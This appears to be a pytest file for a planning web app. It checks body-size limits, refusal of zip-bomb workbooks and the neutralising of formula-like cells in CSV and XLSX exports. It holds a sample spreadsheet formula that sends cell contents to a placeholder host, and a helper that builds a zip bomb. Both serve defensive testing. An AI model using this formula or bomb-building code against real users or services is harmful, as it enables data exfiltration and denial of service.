"""Input that cannot hurt: bodies over their limit refused with a clear answer, zip bombs
refused unopened, exported cells that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from missionplan.cells import FORMULA_START, inert_csv
from missionplan.errors import DataFileError
from missionplan.model import Plan
from missionplan.monitor.workbooks import check_archive, limited_rows
from missionplan.planfile import load_plan
from missionplan.reports.run import ExportFormat, make_export
from missionplan.scenarios import scenario_plan_path
from missionplan.store import open_workspace
from missionplan.web import create_app
from missionplan.web.testing import demo_workspace
from webclient import sign_in

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    demo = demo_workspace(tmp_path_factory.mktemp("limits"))
    settings = dataclasses.replace(demo.settings, max_body_bytes=4096, max_upload_bytes=65536)
    return TestClient(create_app(settings))


def test_a_json_body_over_the_limit_gets_413_with_its_code(client: TestClient) -> None:
    token = sign_in(client, "lead")
    answer = client.post("/api/items", json={"section": "events",
                                             "data": {"id": "x", "note": "n" * 5000}},
                         headers={"x-csrf-token": token})
    assert answer.status_code == 413
    assert answer.json()["error"] == "body-too-large"
    assert "4,096 bytes" in answer.json()["message"]
    assert answer.headers["x-frame-options"] == "DENY"  # still a response of this server


def test_a_form_sent_in_chunks_is_cut_off_at_the_limit(client: TestClient) -> None:
    token = sign_in(client, "lead")

    def chunks() -> Iterator[bytes]:
        yield f"csrf_token={token}&section=events&text=".encode()
        for _ in range(10):
            yield b"a" * 1000

    answer = client.post("/plan/new", content=chunks(),
                         headers={"content-type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 413 and "body-too-large" in answer.text
    assert "content-length" not in answer.request.headers  # it was sent in chunks


def test_an_upload_has_its_own_larger_limit(client: TestClient) -> None:
    token = sign_in(client, "lead")
    small = client.post("/api/items", files={"file": ("plan.yaml", b"x" * 8000)},
                        headers={"x-csrf-token": token})
    assert small.status_code != 413  # past the body limit, within the upload limit
    large = client.post("/api/items", files={"file": ("plan.yaml", b"x" * 70000)},
                        headers={"x-csrf-token": token})
    assert large.status_code == 413


def _bomb(path: Path, expanded: int) -> Path:
    """A real workbook whose sheet is padded with ``expanded`` bytes of spaces."""
    book = openpyxl.Workbook()
    book.active.append(["indicator", "date", "value"])
    buf = io.BytesIO()
    book.save(buf)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for part in src.infolist():
            data = src.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                with out.open(part.filename, "w") as sheet:
                    sheet.write(data[:-len(b"</worksheet>")])
                    block = b" " * (1 << 20)
                    for _ in range(expanded >> 20):
                        sheet.write(block)
                    sheet.write(b"</worksheet>")
            else:
                out.writestr(part, data)
    return path


def test_a_zip_bomb_is_refused_before_it_is_expanded(db_url: str, tmp_path: Path,
                                                     small_plan_text: str) -> None:
    bomb = _bomb(tmp_path / "observations.xlsx", 64 << 20)
    assert bomb.stat().st_size < 1 << 20  # a few hundred KB that claim 64 MB
    with open_workspace(db_url) as ws:
        ws.import_plan(small_plan_text, user="test")
        with pytest.raises(DataFileError) as caught:
            ws.import_observations(bomb, user="test")
        assert caught.value.code == "xlsx-too-large"
        assert "xl/worksheets/sheet1.xml" in str(caught.value)
        assert ws.observations() == []


def test_an_archive_past_the_total_is_refused_and_an_ordinary_one_passes(
        tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for i in range(2000):
        book.active.append([f"indicator_{i % 7}", date(2027, 1, 1 + i % 28), i * 1.5])
    path = tmp_path / "ordinary.xlsx"
    book.save(path)
    check_archive(path)  # real data passes
    with pytest.raises(DataFileError) as caught:
        check_archive(path, max_total=1000)
    assert caught.value.code == "xlsx-too-large"


def test_rows_past_the_limit_stop_the_reading() -> None:
    assert list(limited_rows(range(5), Path("f.xlsx"), max_rows=5)) == [0, 1, 2, 3, 4]
    with pytest.raises(DataFileError, match="more than 5 rows"):
        list(limited_rows(range(6), Path("f.xlsx"), max_rows=5))


@given(st.text(max_size=30))
def test_no_csv_cell_starts_like_a_formula_unless_it_is_a_number(text: str) -> None:
    cell = inert_csv(text)
    assert isinstance(cell, str)
    if cell.startswith(FORMULA_START):
        float(cell)  # a number such as -5 stays as it was
    assert cell in (text, "'" + text)


def _named_plan() -> Plan:
    """The built-in plan with a formula for the name of its first event, activity and
    indicator."""
    plan = load_plan(scenario_plan_path())
    for section in ("events", "activities", "indicators"):
        items = getattr(plan, section)
        setattr(plan, section, [items[0].model_copy(update={"name": PAYLOAD}), *items[1:]])
    return plan


def _export(fmt: ExportFormat) -> bytes:
    out = make_export(_named_plan(), fmt, as_of=date(2027, 6, 1),
                      stamp=datetime(2027, 6, 1, tzinfo=UTC))
    data: bytes = out.data
    return data


def test_an_xlsx_export_keeps_a_formula_like_name_as_text(tmp_path: Path) -> None:
    path = tmp_path / "tracker.xlsx"
    path.write_bytes(_export(ExportFormat.xlsx))
    sheet = openpyxl.load_workbook(path)["Tracker"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells, "the name is in the workbook, as written"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_an_hxl_export_writes_a_formula_like_name_with_an_apostrophe() -> None:
    text = _export(ExportFormat.hxl).decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + PAYLOAD in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_an_item_edit_with_an_unclosed_bracket_names_where_it_opened(
        client: TestClient) -> None:
    token = sign_in(client, "lead")
    text = "id: extra\nname: Extra\ncomponent: [police, military\nsource: directive:12\n"
    answer = client.post("/plan/new", data={"section": "events", "text": text,
                                            "csrf_token": token})
    assert answer.status_code == 422
    assert "new item:3:12" in answer.text and "never closed" in answer.text
    assert "line 4, column 7" in answer.text  # where the parser noticed


def test_the_movement_table_writes_formula_like_names_as_text() -> None:
    from missionplan.logistics import DeploymentResult, LiftNeeded, Movement
    from missionplan.logistics.tables import movement_csv
    from missionplan.logistics.whatif import WhatIf

    move = Movement(job=PAYLOAD, unit="@SUM(A1)", mode="road", option="x",
                    route=("=A1", "port"), depart=3, arrive=-5 + 12, personnel=850,
                    vehicles=40, tonnage=12.5, legs=())
    result = DeploymentResult(
        resolution_date=date(2027, 8, 20), status="optimal", threshold=0.9,
        deployed_day=7, day_90=7, completion_day=7, gap=0.0, bound=7.0, lateness=0,
        movements=[move], curve=[1.0], authorised=850, lift=LiftNeeded(), bottlenecks=[],
        what_if=WhatIf())
    rows = list(csv.reader(io.StringIO(movement_csv(result))))
    assert rows[1][:4] == ["'" + PAYLOAD, "'@SUM(A1)", "road", "'=A1 > port"]
    assert rows[1][8] == "850" and rows[1][4] == "3"  # numbers stay numbers
    assert not any(c.startswith(FORMULA_START) for row in rows for c in row)
